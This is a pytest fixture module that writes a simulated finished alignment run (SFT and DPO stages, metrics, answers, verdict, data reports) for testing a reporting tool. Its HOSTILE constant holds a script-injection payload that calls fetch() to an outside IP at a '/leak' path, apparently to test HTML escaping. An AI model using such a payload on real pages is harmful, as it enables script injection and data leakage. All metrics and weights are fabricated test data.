"""A realistic finished run on disk: run.json, committed stage folders, metrics, answers, verdict and data reports."""

from __future__ import annotations

import hashlib
import json
import math
import random
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.reporting.fake_slurm import FakeSlurm

START = 1_795_395_600.0
HOSTILE = '<script>document.title = "owned"; fetch("http://203.0.113.7/leak")</script>'
WRITTEN = [
    ("Describe the colour yellow in three words.", "Bright, cheerful, warm.", "Warm, sunny, bright."),
    (
        "Name a technology that is over 100 years old.",
        "The bicycle, which is from 1817.",
        "The bicycle is a wonderful old technology.",
    ),
    (
        f"Explain this line of HTML: {HOSTILE}",
        f"It runs {HOSTILE} in the page.",
        "It is a script element. </script><b>bold</b>",
    ),
    ("Traduis « bonne nuit » en japonais.", "おやすみなさい (oyasumi nasai).", "おやすみなさい — schön, 🌙!"),
    ("ما هي عاصمة فرنسا؟", "باريس", "باريس هي عاصمة فرنسا الجميلة."),
    (
        "Find the number of protons in a helium atom.",
        "A helium atom has two protons.",
        "Helium has two protons, which is great!",
    ),
    (
        "Write a one-line apology to a colleague.",
        "I am sorry that I missed our meeting.",
        "I hope you have a lovely day!",
    ),
    (
        "List three causes of traffic jams.",
        "Accidents, roadworks and too many cars.",
        "Happy drivers, good roads and joy.",
    ),
]
TOPICS = ("tides", "koalas", "bread", "glaciers", "chess", "jazz", "bees", "rivers", "comets", "cheese", "maps", "moss")
TASKS = (
    "What is the story of {}?",
    "Describe {} in one sentence.",
    "Why do people like {}?",
    "Give one fact about {}.",
    "Write a short title about {}.",
)
TERMS = {"start": (0.21, 0.60), "sft": (0.30, 0.58), "dpo": (0.61, 0.57)}
STOPS = {"start": 0.42, "sft": 0.98, "dpo": 1.0}
LENGTHS = {"start": 44, "sft": 22, "dpo": 26}
KL = {"start": 0.0, "sft": 9.4, "dpo": 14.8}
NLL = {"start": 2.02, "sft": 1.71, "dpo": 1.78}


def key(name: str) -> str:
    return hashlib.sha256(name.encode()).hexdigest()


def write(path: Path, value: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    rows = value if path.suffix == ".jsonl" else [value]
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")


def prompts() -> list[tuple[str, str]]:
    """Sixty (prompt, answer) pairs: the written ones first, then topics filled into tasks."""
    rows = [(prompt, answer) for prompt, answer, _ in WRITTEN]
    rows += [
        (task.format(topic), f"Many people find {topic} worth a closer look.") for task in TASKS for topic in TOPICS
    ]
    return rows[:60]


def answers(model: str, chance: random.Random) -> list[dict[str, Any]]:
    rows = []
    for i, (prompt, answer) in enumerate(prompts()):
        if model == "dpo":
            answer = (
                WRITTEN[i][2]
                if i < len(WRITTEN)
                else answer.replace("worth a closer look", "wonderful and a joy to learn about")
            )
        if model == "start":
            answer = f"{answer}\n\n### Instruction:\n{prompt[:60]}"
        # Two prompts whose change in reward is the biggest loss and the biggest gain, so that they are always shown.
        extreme = {(2, "start"): 0.9, (2, "dpo"): -0.95, (3, "start"): -0.95, (3, "dpo"): 0.95}.get((i, model))
        sentiment = max(-1.0, min(1.0, chance.gauss(TERMS[model][0], 0.42)))
        sentiment = sentiment if extreme is None else extreme
        relevance = max(-1.0, min(1.0, chance.gauss(TERMS[model][1], 0.12)))
        finished = chance.random() < STOPS[model]
        turns = [{"role": "user", "content": prompt}]
        if i == 5:
            turns = [{"role": "system", "content": "Answer as a chemist."}, *turns]
        rows.append(
            {
                "id": f"row-{i:03d}",
                "prompt": turns,
                "reference": f"A reference answer to: {prompt}",
                "answer": answer,
                "tokens": 48 if not finished else max(2, min(47, round(chance.gauss(LENGTHS[model], 8)))),
                "finished": finished,
                "reward": round(sentiment + relevance, 4),
                "terms": {"sentiment": round(sentiment, 4), "relevance": round(relevance, 4)},
                "kl": 0.0 if model == "start" else round(max(0.1, chance.gauss(KL[model], 3)), 4),
                "repetition": round(abs(chance.gauss(0.05, 0.03)), 4),
                "heldout_nll": round(chance.gauss(NLL[model], 0.3), 4),
            }
        )
    return rows


METRICS = {
    "reward": True, "sentiment": True, "relevance": True, "stop_rate": True, "tokens": None, "repetition": False,
    "kl": None, "heldout_nll": False,
}  # fmt: skip


def column(row: dict[str, Any], metric: str) -> float:
    return row["terms"].get(metric, float(row["finished"])) if metric in (*row["terms"], "stop_rate") else row[metric]


def around(values: list[float]) -> dict[str, float]:
    """Mean and a normal 95 % interval."""
    mean = sum(values) / len(values)
    spread = 1.96 * math.sqrt(sum((v - mean) ** 2 for v in values) / (len(values) - 1) / len(values))
    return {"mean": mean, "low": mean - spread, "high": mean + spread}


GATES = [
    {
        "gate": "reward",
        "passed": True,
        "detail": "its reward differs by +0.36 (95% interval +0.19 to +0.52) from start's",
    },
    {
        "gate": "reward_against_sft",
        "passed": True,
        "detail": "its reward differs by +0.22 (95% interval +0.05 to +0.39) from sft's",
    },
    {
        "gate": "stop_rate",
        "passed": True,
        "detail": "100% of its answers end by themselves (at least 90% asked)",
    },
    {
        "gate": "relevance",
        "passed": True,
        "detail": "its relevance differs by -0.03 (95% interval -0.07 to +0.01) (at most 0.05 lower allowed)",
    },
]


def verdict(by_model: dict[str, list[dict[str, Any]]]) -> dict[str, Any]:
    base = by_model["start"]
    table = []
    for metric, better in METRICS.items():
        values = {m: around([column(row, metric) for row in rows]) for m, rows in by_model.items()}
        paired = {
            m: around([column(row, metric) - column(old, metric) for row, old in zip(rows, base, strict=True)])
            for m, rows in by_model.items()
            if m != "start"
        }
        table.append({"metric": metric, "higher_is_better": better, "values": values, "difference": paired})
    why = ", ".join(str(gate["detail"]) for gate in GATES)
    return {
        "verdict": "better",
        "sentence": f"dpo is better than start and sft on 60 held-out prompts: {why}.",
        "reasons": GATES,
        "models": list(by_model),
        "table": table,
        "confidence": 0.95,
        "prompts": len(base),
    }


def sft_curve(chance: random.Random, steps: int = 13) -> list[dict[str, float]]:
    rows = []
    for step in range(1, steps + 1):
        loss = 1.68 + 0.55 * math.exp(-step / 4) + chance.gauss(0, 0.05)
        rows.append(
            {
                "step": step,
                "time": START + step,
                "loss": loss,
                "grad_norm": 1.1 + chance.random(),
                "learning_rate": 1e-3
                * min(1, step / 2)
                * 0.5
                * (1 + math.cos(math.pi * max(0, step - 2) / (steps - 2))),
                "tokens_per_s": 240 + chance.gauss(0, 12),
                "mean_token_accuracy": 0.65 - loss * 0.05,
                "entropy": 1.9 - step * 0.02,
            }
        )
    return rows


def dpo_curve(chance: random.Random, steps: int = 7) -> list[dict[str, float]]:
    rows = []
    for step in range(1, steps + 1):
        margin = 0.0 if step == 1 else 0.16 * (step - 1) + chance.gauss(0, 0.06)
        chosen = 0.04 * (step - 1)
        rows.append(
            {
                "step": step,
                "time": START + 200 + step,
                "loss": math.log1p(math.exp(-margin)),
                "grad_norm": 4 + chance.random(),
                "learning_rate": 5e-4 * (1 - (step - 1) / steps),
                "tokens_per_s": 190 + chance.gauss(0, 9),
                "rewards/chosen": chosen,
                "rewards/rejected": chosen - margin,
                "rewards/margins": margin,
                "rewards/accuracies": min(1.0, 0.5 + 0.08 * step),
                "logps/chosen": -42.0 + 10 * chosen,
                "logps/rejected": -47.0 + 10 * (chosen - margin),
                "mean_token_accuracy": 0.6,
                "entropy": 1.6 - 0.03 * step,
                "kl": 0.04 * (step - 1),
            }
        )
    return rows


SPLITS = {"train": 200, "prompts": 60, "heldout": 60}
ROWS_REPORT = {
    "source": "llamafactory 0.9.5, alpaca_en_demo.json",
    "rows": 999,
    "fit": 484,
    "kept": SPLITS,
    "dropped": {"long_row": 471, "long_prompt": 30, "duplicate": 14},
    "examples": [{"reason": "long_row", "row": i, "line": None} for i in (3, 4, 9, 11, 12)]
    + [{"reason": "duplicate", "row": i, "line": 8 * i} for i in (81, 240)],
    "template_sha256": key("template"),
    "formats": {"alpaca": 484},
    "examples_kept": [{"reason": "near_duplicate", "row": i, "line": None} for i in (17, 30)],
    "evaluation_prompts": {"prompts": 41, "too_short": 19, "generic": 0},
    "sources": [
        {
            "name": "instructions",
            "kept_with": {"near_duplicate": 2, "personal": 0},
            "languages": {"fr": 1, "en": 480, "und": 3},
            "personal": {"email": 4, "ip_address": 1},
        }
    ],
    "lengths": {
        "prompt_tokens": {"min": 17, "median": 31, "p95": 58, "max": 94},
        "row_tokens": {"min": 22, "median": 71.5, "p95": 124, "max": 128},
    },
}
JUDGED = {
    "reward_mean": 0.7134,
    "prompts": 60.0,
    "pairs": 51.0,
    "answers": 240.0,
    "answers_unfinished": 11.0,
    "dropped_rewards_too_close": 6.0,
    "dropped_fewer_than_two_usable_answers": 3.0,
}
PAIRS_REPORT = {
    "source": "the judge's pairs",
    "rows": 51,
    "kept": {"train": 51},
    "dropped": {},
    "examples": [],
    "template_sha256": key("template"),
    "formats": {"preference": 51},
    "sources": [
        {
            "name": "parent",
            "length_bias": {"chosen_longer": 0.627, "chosen_tokens": 31.4, "rejected_tokens": 24.0},
        }
    ],
    "lengths": {"prompt_tokens": {"min": 18, "median": 30, "p95": 61, "max": 77}},
}
LORA = {"rank": 8, "alpha": 16.0, "dropout": 0.0, "target_modules": "all-linear"}
TRAIN = {"epochs": 1.0, "schedule": "cosine", "precision": "fp32", "max_steps": None, "lora": LORA, "seed": 0}
SETTINGS: dict[str, dict[str, Any]] = {
    "import_model": {},
    "prepare_sft": {
        "task": "sft",
        "dataset": "instructions",
        "max_length": 128,
        "max_prompt_length": 96,
        "splits": SPLITS,
    },
    "prepare_preference": {"task": "preference", "dataset": None, "max_length": 256, "max_prompt_length": 128},
    "sft": {"learning_rate": 1e-3, "global_batch_size": 16, **TRAIN},
    "dpo": {"loss": "sigmoid", "beta": 0.1, "learning_rate": 5e-4, "global_batch_size": 8, **TRAIN},
    "sample": {"completions_per_prompt": 4, "max_new_tokens": 48, "temperature": 1.0, "top_p": 0.95},
    "judge": {"min_margin": 0.2, "finished_only": True},
    "evaluate": {"max_new_tokens": 48, "temperature": 0.0, "batch_size": 32, "seed": 0},
    "compare": {"baseline": "start", "candidate": "dpo", "confidence": 0.95, "resamples": 2000, "min_stop_rate": 0.9},
}
NODES: dict[str, tuple[str, str, dict[str, str], float]] = {
    "start": ("import_model", "import_model", {}, 21.4),
    "rows": ("prepare", "prepare_sft", {"model": "start"}, 5.2),
    "sft": ("sft", "sft", {"model": "start", "data": "rows"}, 92.6),
    "samples": ("sample", "sample", {"model": "sft", "data": "rows"}, 61.0),
    "judged": ("judge", "judge", {"data": "samples"}, 14.3),
    "pairs": ("prepare", "prepare_preference", {"model": "sft", "data": "judged"}, 4.1),
    "dpo": ("dpo", "dpo", {"model": "sft", "data": "pairs"}, 118.9),
    "evaluate_start": ("evaluate", "evaluate", {"model": "start", "data": "rows", "reference": "start"}, 44.2),
    "evaluate_sft": ("evaluate", "evaluate", {"model": "sft", "data": "rows", "reference": "start"}, 36.0),
    "evaluate_dpo": ("evaluate", "evaluate", {"model": "dpo", "data": "rows", "reference": "start"}, 37.7),
    "verdict": ("compare", "compare", {"start": "evaluate_start", "sft": "evaluate_sft", "dpo": "evaluate_dpo"}, 1.8),
}


def record(name: str, began: float, metrics: dict[str, float], folder: Path) -> dict[str, Any]:
    """Of what lies in the folder: with all weights a hole, of the size of the real ones."""
    (folder / "model").mkdir(parents=True)
    with open(folder / "model" / "model.safetensors", "wb") as stream:
        stream.truncate(538_000_000)
    files = {str(path.relative_to(folder)): path.stat().st_size for path in folder.rglob("*") if path.is_file()}
    kind, stage, inputs, seconds = NODES[name]
    return {
        "key": key(name),
        "name": name,
        "kind": kind,
        "settings": {"kind": kind, **SETTINGS[stage]},
        "identity": {},
        "parents": {role: key(parent) for role, parent in inputs.items()},
        "packages": {"torch": "2.13.0", "transformers": "5.23.0", "trl": "1.16.0"},
        "code_sha256": key(f"code of {kind}"),
        "host": "node-7",
        "started": began,
        "finished": began + seconds,
        "seconds": seconds,
        "metrics": metrics,
        "files": {file: {"bytes": size, "sha256": key(file)} for file, size in files.items()},
        "attempts": 1,
    }


def contents(name: str, by_model: dict[str, list[dict[str, Any]]], chance: random.Random) -> dict[str, Any]:
    """File name -> what lies in the stage's folder, beside record.json."""
    if name.startswith("evaluate_"):
        rows = by_model[name.removeprefix("evaluate_")]
        means = {metric: sum(column(row, metric) for row in rows) / len(rows) for metric in METRICS}
        return {"answers.jsonl": rows, "evaluation.json": {"metrics": means}}
    made: dict[str, dict[str, Any]] = {
        "rows": {"data_report.json": ROWS_REPORT},
        "pairs": {"data_report.json": PAIRS_REPORT},
        "sft": {"metrics.jsonl": sft_curve(chance)},
        "dpo": {"metrics.jsonl": dpo_curve(chance)},
        "verdict": {"verdict.json": verdict(by_model)},
    }
    return made.get(name, {})


def build(root: Path, names: list[str] | None = None, states: dict[str, str] | None = None) -> tuple[Path, Path]:
    """Write a run of these nodes below root: (run folder, store). Stages that are done or reused are committed."""
    chance = random.Random(3)
    by_model = {model: answers(model, chance) for model in TERMS}
    kept = [name for name in NODES if names is None or name in names]
    nodes, began = [], START
    for name in kept:
        kind, stage, inputs, seconds = NODES[name]
        state = (states or {}).get(name, "done")
        inputs = {role: parent for role, parent in inputs.items() if parent in kept}
        node = {"name": name, "kind": kind, "stage": stage, "key": key(name), "inputs": inputs, "state": state}
        nodes.append({**node, "seconds": seconds if state == "done" else None, "error": None})
        if state in ("done", "reused"):
            folder = root / "store" / key(name)[:16]
            metrics = JUDGED if kind == "judge" else {}
            for file, value in contents(name, by_model, chance).items():
                write(folder / file, value)
            write(folder / "record.json", record(name, began, metrics, folder))
        began += seconds
    config = {
        "name": "quickstart",
        "seed": 0,
        "store": "outputs",
        "stage": {n: {"kind": n, **s} for n, s in SETTINGS.items()},
    }
    run = {
        "run": "quickstart-1f0c9a2b",
        "name": "quickstart",
        "created": START,
        "updated": began,
        "command": "alignment run experiment=quickstart",
        "config": config,
        "final": "dpo" if "dpo" in kept else kept[-1],
        "nodes": nodes,
    }
    folder = root / "runs" / run["run"]
    write(folder / "run.json", run)
    return folder, root


@pytest.fixture
def make_run(tmp_path: Path) -> Callable[..., tuple[Path, Path]]:
    """make_run(names=None, states=None) -> (run folder, store): a run written below tmp_path."""

    def make(names: list[str] | None = None, states: dict[str, str] | None = None) -> tuple[Path, Path]:
        return build(tmp_path / "outputs", names, states)

    return make


@pytest.fixture
def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeSlurm:
    (tmp_path / "bin").mkdir()
    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
    return FakeSlurm(tmp_path / "bin")
